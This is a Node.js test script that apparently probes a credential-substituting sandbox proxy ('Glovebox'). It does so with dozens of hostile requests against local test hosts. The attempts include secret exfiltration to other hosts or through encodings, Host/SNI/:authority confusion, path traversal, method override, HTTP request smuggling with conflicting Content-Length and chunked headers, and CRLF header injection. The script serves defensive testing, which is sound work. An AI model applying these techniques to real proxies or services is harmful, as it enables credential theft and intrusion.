// A hostile job: tries to bring what its variables hold to where it is not for, or to get back what it stands for. Prints what it heard of
// each attempt. With DIRECT it dials the hosts themselves: the control, in which the variables hold the real values.
import { connect as connectH2 } from 'node:http2'
import { connect as connectClear } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { gzipSync } from 'node:zlib'

const { DIRECT, PORT, RAW, RAWS, CLEAR, TOKEN, SECOND, SWAP, FORM, KEY, STRANGER } = process.env
// backwards: Glovebox would not start a job that it hands a value to
const LEAKED = [...process.env.LEAKED].reverse().join('')
const address = (name) => (DIRECT ? '127.0.0.1' : name)
const base64 = (text) => Buffer.from(text).toString('base64')

/** Says the pieces one after the other, and hears until the end, or until nothing comes any more. */
function say(
  name,
  pieces,
  { sni = name, port = PORT, clear = false, quietMs = 2500, believing = false } = {},
) {
  return new Promise((resolve) => {
    const heard = []
    const host = address(name)
    const socket = clear
      ? connectClear({ host, port: Number(CLEAR) })
      : connectTls({
          host,
          port: Number(port),
          servername: sni,
          ALPNProtocols: ['http/1.1'],
          checkServerIdentity: () => undefined,
          rejectUnauthorized: !believing,
        })
    let end = 'closed'
    const done = () => {
      const all = Buffer.concat(heard)
      const text = all.toString('latin1')
      const statuses = [...text.matchAll(/HTTP\/1\.1 (\d{3})/g)].map(([, status]) => Number(status))
      resolve({ statuses, end, heard: [all.toString('base64')] })
    }
    socket.setNoDelay(true)
    socket.setTimeout(quietMs, () => {
      end = 'silent'
      socket.destroy()
    })
    socket.on('data', (piece) => heard.push(piece))
    socket.on('error', (error) => {
      end = error.code ?? error.message
    })
    socket.on('close', done)
    socket.on(clear ? 'connect' : 'secureConnect', async () => {
      for (const piece of [pieces].flat()) {
        if (socket.destroyed) return
        socket.write(Buffer.from(piece, 'latin1'))
        await new Promise((next) => setTimeout(next, 5))
      }
    })
  })
}

/** All requests as streams of one connection, at once. */
function ask(name, requests, { sni = name } = {}) {
  return new Promise((resolve) => {
    const session = connectH2(`https://${address(name)}:${PORT}`, {
      servername: sni,
      checkServerIdentity: () => undefined,
    })
    const timer = setTimeout(() => session.destroy(), 5000)
    session.on('error', () => {})
    const all = requests.map(
      ({ body, reset = false, trailers, ...headers }) =>
        new Promise((next) => {
          const stream = session.request(
            { ':authority': `${name}:${PORT}`, ...headers },
            { endStream: body === undefined, waitForTrailers: trailers !== undefined },
          )
          const heads = []
          const heard = []
          let status = 0
          if (trailers) stream.on('wantTrailers', () => stream.sendTrailers(trailers))
          stream.on('headers', (fields) => heads.push(Buffer.from(JSON.stringify(fields))))
          stream.on('response', (fields) => {
            status = fields[':status']
            heads.push(Buffer.from(JSON.stringify(fields)))
          })
          stream.on('trailers', (fields) => heads.push(Buffer.from(JSON.stringify(fields))))
          stream.on('data', (piece) => heard.push(piece))
          stream.on('error', () => {})
          stream.on('close', () => next({ status, heard: [...heads, Buffer.concat(heard)] }))
          if (body !== undefined) stream.end(body)
          if (reset) setImmediate(() => stream.close(8))
        }),
    )
    Promise.all(all).then((answers) => {
      clearTimeout(timer)
      session.destroy()
      resolve({
        statuses: answers.map(({ status }) => status),
        end: 'closed',
        heard: answers.flatMap(({ heard }) => heard).map((piece) => piece.toString('base64')),
      })
    })
  })
}

let attempt = ''
function request(
  name,
  { method = 'GET', path = '/', headers = [], body = '', host = `${name}:${PORT}` } = {},
) {
  const lines = [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    `X-Attempt: ${attempt}`,
    'Connection: close',
    ...headers,
  ]
  if (body !== '' && !headers.some((line) => /^(content-length|transfer-encoding):/i.test(line)))
    lines.push(`Content-Length: ${body.length}`)
  return `${lines.join('\r\n')}\r\n\r\n${body}`
}
const plain = (name, more) => say(name, request(name, more))
const post = (name, body, headers = []) => plain(name, { method: 'POST', body, headers })
const chunked = (text, size) => {
  const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g'))
  return [...pieces.map((piece) => `${piece.length.toString(16)}\r\n${piece}\r\n`), '0\r\n\r\n']
}
const half = (text) => [text.slice(0, text.length / 2), text.slice(text.length / 2)]
const marked = (more) => ({ 'x-attempt': attempt, ...more })

const ATTEMPTS = {
  // what each is for
  'two credentials on one host: one': () => plain('bearer.test', { path: '/ok/x' }),
  'two credentials on one host: the other': () => plain('bearer.test', { path: '/second/x' }),
  'two credentials on one host: the other, in a placeholder': () =>
    plain('bearer.test', { path: '/second/x', headers: [`Authorization: Bearer ${SECOND}`] }),

  // where the value is not for
  'another host': () => plain('other.test', { headers: [`X-Token: ${SWAP}`] }),
  'another host, by HTTP/2': () => ask('other.test', [marked({ 'x-token': SWAP })]),
  'another path': () =>
    plain('bearer.test', { path: '/elsewhere', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'another method': () =>
    plain('bearer.test', { method: 'DELETE', path: '/ok/x', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'another header': () => plain('key.test', { headers: [`X-Other: ${KEY}`] }),
  'clear HTTP': () =>
    say('clear.test', request('clear.test', { host: `clear.test:${CLEAR}`, headers: [`X-Token: ${SWAP}`] }), {
      clear: true,
    }),
  'clear HTTP, its own host': () =>
    say('swap.test', request('swap.test', { host: `swap.test:${CLEAR}`, headers: [`X-Token: ${SWAP}`] }), {
      clear: true,
    }),
  'another credential’s path': () =>
    plain('bearer.test', { path: '/second/x', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'a cookie': () => plain('bearer.test', { path: '/ok/x', headers: [`Cookie: a=${TOKEN}`] }),
  'a cookie of another host': () => plain('other.test', { headers: [`Cookie: a=1; b=${SWAP}`] }),
  'the query': () => plain('swap.test', { path: `/?a=${SWAP}` }),
  'the query, in escapes': () =>
    plain('other.test', {
      path: `/?a=${[...SWAP].map((each) => `%${each.charCodeAt(0).toString(16)}`).join('')}`,
    }),
  'the path': () => plain('swap.test', { path: `/${SWAP}/x` }),
  'the name of a header': () => plain('other.test', { headers: [`X-${SWAP.replace(/[^\w-]/g, '-')}: 1`] }),
  'Basic, another host': () =>
    plain('other.test', { headers: [`Authorization: Basic ${base64(`me:${SWAP}`)}`] }),
  'Base64 in a header': () => plain('other.test', { headers: [`X-Token: ${base64(`ab${SWAP}`)}`] }),
  'hex in a header': () =>
    plain('other.test', { headers: [`X-Token: ${Buffer.from(SWAP).toString('hex')}`] }),
  'a body': () => post('other.test', `a=${SWAP}`),
  'a body, Base64': () => post('other.test', base64(`a${SWAP}`)),
  'a body, in Base64 lines': () => post('other.test', base64(`abc${SWAP}`).replace(/(.{10})/g, '$1\r\n')),
  'a body, UTF-16': () => post('other.test', Buffer.from(SWAP, 'utf16le').toString('latin1')),
  'a body, JSON escapes': () =>
    post('other.test', `"${[...SWAP].map((each) => `\\u00${each.charCodeAt(0).toString(16)}`).join('')}"`),
  'a body of a host that has it in headers': () => post('swap.test', SWAP),
  'a body, chunks of one byte': () =>
    say('other.test', [
      request('other.test', { method: 'POST', headers: ['Transfer-Encoding: chunked'] }),
      ...chunked(SWAP, 1),
    ]),
  'a body, by HTTP/2 in pieces': () => ask('other.test', [marked({ ':method': 'POST', body: SWAP })]),
  'a trailer': () =>
    say('other.test', [
      request('other.test', { method: 'POST', headers: ['Transfer-Encoding: chunked', 'Trailer: X-Token'] }),
      `1\r\na\r\n0\r\nX-Token: ${SWAP}\r\n\r\n`,
    ]),
  'a trailer, by HTTP/2': () =>
    ask('other.test', [marked({ ':method': 'POST', body: 'a', trailers: { 'x-token': SWAP } })]),
  'after a redirect': async () => {
    const first = await plain('swap.test', {
      path: `/redirect?to=https://other.test:${PORT}/`,
      headers: [`X-Token: ${SWAP}`],
    })
    const [, to = ''] =
      /location: (\S+)/i.exec(Buffer.from(first.heard[0], 'base64').toString('latin1')) ?? []
    const { host, pathname } = new URL(to)
    const second = await say(
      'other.test',
      request('other.test', { host, path: pathname, headers: [`X-Token: ${SWAP}`] }),
    )
    return { ...second, statuses: [...first.statuses, ...second.statuses] }
  },
  'with the method overridden': () =>
    plain('bearer.test', {
      method: 'POST',
      path: '/ok/x',
      headers: ['X-HTTP-Method-Override: DELETE', `Authorization: Bearer ${TOKEN}`],
    }),
  'with the path overridden': () =>
    plain('bearer.test', {
      path: '/ok/x',
      headers: ['X-Original-URL: /elsewhere', `Authorization: Bearer ${TOKEN}`],
    }),
  'a path that leads elsewhere': () =>
    plain('bearer.test', { path: '/ok/../elsewhere', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'a path that leads elsewhere, escaped': () =>
    plain('bearer.test', { path: '/ok/%2e%2e/elsewhere', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'a path that leads elsewhere, by an escaped slash': () =>
    plain('bearer.test', { path: '/ok/..%2felsewhere', headers: [`Authorization: Bearer ${TOKEN}`] }),
  'Host of another': () => plain('swap.test', { host: `other.test:${PORT}`, headers: [`X-Token: ${SWAP}`] }),
  'Host of its own, at another': () =>
    plain('other.test', { host: `swap.test:${PORT}`, headers: [`X-Token: ${SWAP}`] }),
  'SNI of its own, at another': () =>
    say('other.test', request('swap.test', { headers: [`X-Token: ${SWAP}`] }), { sni: 'swap.test' }),
  'two lines of Host': () =>
    plain('swap.test', { headers: [`Host: other.test:${PORT}`, `X-Token: ${SWAP}`] }),
  'absolute form': () =>
    plain('swap.test', { path: `https://other.test:${PORT}/`, headers: [`X-Token: ${SWAP}`] }),
  ':authority of another': () =>
    ask('swap.test', [marked({ ':authority': `other.test:${PORT}`, 'x-token': SWAP })]),
  ':authority of its own, at another': () =>
    ask('other.test', [marked({ ':authority': `swap.test:${PORT}`, 'x-token': SWAP })]),
  'a second authority on a good connection': () =>
    ask('swap.test', [
      marked({ 'x-token': SWAP }),
      marked({ ':authority': `other.test:${PORT}`, 'x-token': SWAP }),
    ]),
  'a second host on a kept connection': () =>
    say('swap.test', [
      request('swap.test', { headers: [`X-Token: ${SWAP}`] }).replace('Connection: close\r\n', ''),
      request('swap.test', { host: `other.test:${PORT}`, headers: [`X-Token: ${SWAP}`] }),
    ]),
  'repeated by TRACE': () => plain('swap.test', { method: 'TRACE', headers: [`X-Token: ${SWAP}`] }),
  CONNECT: () =>
    plain('swap.test', { method: 'CONNECT', path: `other.test:${PORT}`, headers: [`X-Token: ${SWAP}`] }),
  'a placeholder of another sandbox': () => plain('swap.test', { headers: [`X-Token: ${STRANGER}`] }),
  'a placeholder of another sandbox, elsewhere': () =>
    plain('other.test', { headers: [`X-Token: ${STRANGER}`] }),

  'the key of the query, in escapes': () => plain('query.test', { path: '/?a=b&%6bey=mine&key=mine' }),
  'the header, twice': () => plain('key.test', { headers: ['X-Api-Key: mine', 'x-api-key: mine, too'] }),
  'the name of a host': () =>
    say(`${SWAP.replace(/[^a-z0-9]/gi, '').slice(0, 40)}.test`, request('other.test')),

  // worth nothing where it arrives
  'two headers': () =>
    plain('other.test', { headers: half(SWAP).map((part, index) => `X-${index}: ${part}`) }),
  'two crumbs of a cookie': () =>
    ask('other.test', [marked({ cookie: half(SWAP).map((part, index) => `c${index}=${part}`) })]),
  'a folded header': () => plain('other.test', { headers: [`X-Token: ${half(SWAP).join('\r\n ')}`] }),
  'a gzipped body': () => post('other.test', gzipSync(SWAP).toString('latin1'), ['Content-Encoding: gzip']),
  'a host that is not looked into': () =>
    say('unread.test', request('unread.test', { headers: [`X-Token: ${SWAP}`] }), { believing: true }),

  // two requests in one
  'a request behind a swapped body': () => {
    const inner = `GET /smuggled HTTP/1.1\r\nHost: form.test:${PORT}\r\nX-Attempt: smuggled\r\n\r\n`
    return post('form.test', `token=${FORM}&${inner}`)
  },
  'a length that the swap makes wrong': () =>
    post('form.test', `${FORM.repeat(20)}GET /smuggled HTTP/1.1\r\nX: `),
  'two lengths': () =>
    plain('form.test', {
      method: 'POST',
      headers: ['Content-Length: 5', 'Content-Length: 50'],
      body: `${FORM}`,
    }),
  'a length and chunks': () =>
    plain('form.test', {
      method: 'POST',
      headers: ['Content-Length: 4', 'Transfer-Encoding: chunked'],
      body: `5\r\nabcde\r\n0\r\n\r\n${FORM}`,
    }),
  'a line end in a header’s value': () => plain('swap.test', { headers: [`X-Token: ${SWAP}\rX-Evil: 1`] }),
  'two Authorizations': () =>
    plain('bearer.test', {
      path: '/ok/x',
      headers: ['Authorization: Basic bWU6bWU=', `Authorization: Bearer ${TOKEN}`],
    }),
  'Connection: the header of the value': () =>
    plain('key.test', { headers: ['Connection: X-Api-Key', 'X-Api-Key: mine'] }),
  'an Expect before a swapped body': () => post('form.test', `token=${FORM}`, ['Expect: 100-continue']),
  'a swapped body over chunk borders': () =>
    say('form.test', [
      request('form.test', { method: 'POST', headers: ['Transfer-Encoding: chunked'] }),
      ...chunked(`token=${FORM}&b=c`, 7),
    ]),

  // what the job must not know at all, and yet has
  'a value that leaked': () => plain('other.test', { headers: [`X-Token: ${LEAKED}`] }),
  'a value that leaked, Base64, to its own host': () => post('swap.test', base64(`a${LEAKED}`)),
  'a value that leaked, by clear HTTP': () =>
    say('clear.test', request('clear.test', { host: `clear.test:${CLEAR}`, path: `/?${LEAKED}` }), {
      clear: true,
    }),
}
const HOWS = [
  'plain',
  'percent',
  'base64',
  'base64url',
  'hex',
  'json',
  'utf16',
  'header',
  'status',
  'redirect',
  'error',
  'slow',
  'bytes',
  'gzip',
  'br',
  'deflate',
  'gzip twice',
  'zstd',
  'trailer',
  'early',
  'cookie',
  'html',
]
for (const how of HOWS) {
  ATTEMPTS[`repeated: ${how}`] = () =>
    plain('swap.test', {
      path: `/repeat?how=${encodeURIComponent(how)}`,
      headers: [`X-Token: ${SWAP}`, 'Accept-Encoding: gzip, br, deflate'],
    })
  ATTEMPTS[`repeated by HTTP/2: ${how}`] = () =>
    ask('swap.test', [
      marked({
        ':path': `/repeat?how=${encodeURIComponent(how)}`,
        'x-token': SWAP,
        'accept-encoding': 'gzip, br, deflate',
      }),
    ])
}

for (const way of JSON.parse(RAWS)) {
  ATTEMPTS[`repeated raw: ${way}`] = () => {
    const path = `/raw/${encodeURIComponent(way)}`
    const more = { host: `raw.test:${RAW}`, path, headers: [`X-Token: ${SWAP}`, 'TE: gzip'] }
    const text = request('raw.test', more)
    const upgrading = text.replace('Connection: close', 'Connection: Upgrade\r\nUpgrade: websocket')
    return say('raw.test', way.includes('WebSocket') ? upgrading : text, { port: RAW })
  }
}

const wanted = process.argv.slice(2)
const seen = {}
for (const [name, act] of Object.entries(ATTEMPTS)) {
  if (wanted.length > 0 && !wanted.some((word) => name.includes(word))) continue
  attempt = encodeURIComponent(name)
  seen[name] = await act().catch((error) => ({ statuses: [], end: String(error), heard: [] }))
}
console.log(JSON.stringify(seen))
